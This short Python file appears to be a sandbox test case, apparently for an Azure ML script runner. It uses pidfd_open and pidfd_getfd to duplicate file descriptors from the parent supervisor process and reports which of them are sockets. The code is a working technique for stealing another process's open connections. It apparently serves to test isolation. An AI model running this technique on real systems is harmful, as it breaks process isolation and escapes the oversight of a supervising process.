"""Takes the open sockets of the process that watches over the job for itself."""

import os
import stat

from attack import attack, call, every


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    process = call("pidfd_open", os.getppid(), 0)

    def steal(number):
        stolen = call("pidfd_getfd", process, number, 0)
        kind = os.fstat(stolen).st_mode
        os.close(stolen)
        return f"took socket {number} of the supervisor" if stat.S_ISSOCK(kind) else ""

    return every(steal, range(3, 64))
